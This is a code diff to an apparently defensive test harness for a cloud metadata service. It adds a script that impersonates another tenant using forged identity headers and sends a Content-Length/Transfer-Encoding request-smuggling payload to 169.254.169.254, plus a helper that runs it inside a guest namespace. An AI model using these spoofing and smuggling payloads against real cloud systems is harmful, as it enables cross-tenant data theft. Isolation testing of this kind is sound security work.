@@ -135,6 +135,47 @@ def own_metadata(lab: Lab, guest: str, url: str = META) -> dict[str, object]:
     return data
 
 
+# From inside a guest: every identity header naming the other tenant, one at a
+# time, then CL+TE smuggling of a request that names it; prints every uuid seen.
+SPOOF = """
+import json, socket, sys, urllib.request
+url, victim, victim_ip = sys.argv[1], sys.argv[2], sys.argv[3]
+headers = [("X-Instance-ID", victim), ("X-Tenant-ID", "tenant-b"),
+           ("X-Instance-ID-Signature", "0" * 64), ("X-Forwarded-For", victim_ip),
+           ("Forwarded", "for=" + victim_ip), ("X-Neutron-Router-ID", victim),
+           ("X-Neutron-Network-ID", victim), ("X_Instance_ID", victim)]
+seen = []
+for name, value in headers:
+    request = urllib.request.Request(url, headers={name: value})
+    with urllib.request.urlopen(request, timeout=10) as resp:
+        seen.append(json.loads(resp.read())["uuid"])
+smuggled = (b"GET /openstack/latest/meta_data.json HTTP/1.1\\r\\nHost: x\\r\\n"
+            b"X-Instance-ID: " + victim.encode() + b"\\r\\n\\r\\n")
+body = b"0\\r\\n\\r\\n" + smuggled
+raw = (b"POST /openstack/latest/meta_data.json HTTP/1.1\\r\\nHost: x\\r\\n"
+       b"Content-Length: " + str(len(body)).encode() + b"\\r\\n"
+       b"Transfer-Encoding: chunked\\r\\n\\r\\n" + body)
+with socket.create_connection(("169.254.169.254", 80), timeout=5) as sock:
+    sock.sendall(raw)
+    sock.settimeout(2)
+    answer = b""
+    try:
+        while chunk := sock.recv(65536):
+            answer += chunk
+    except OSError:
+        pass
+print(json.dumps({"seen": seen, "raw": answer.decode("latin-1")}))
+"""
+
+
+def in_guest(guest: str, script: str, *args: str, timeout: float = 60) -> dict[str, object]:
+    out = subprocess.run(["ip", "netns", "exec", guest, sys.executable, "-c", script, *args],
+                         capture_output=True, text=True, timeout=timeout, check=False)
+    assert out.returncode == 0, out.stderr[-2000:]
+    result: dict[str, object] = json.loads(out.stdout)
+    return result
+
+
 STORM = """
 import json, sys, time, urllib.error, urllib.request
 url, seconds = sys.argv[1], float(sys.argv[2])
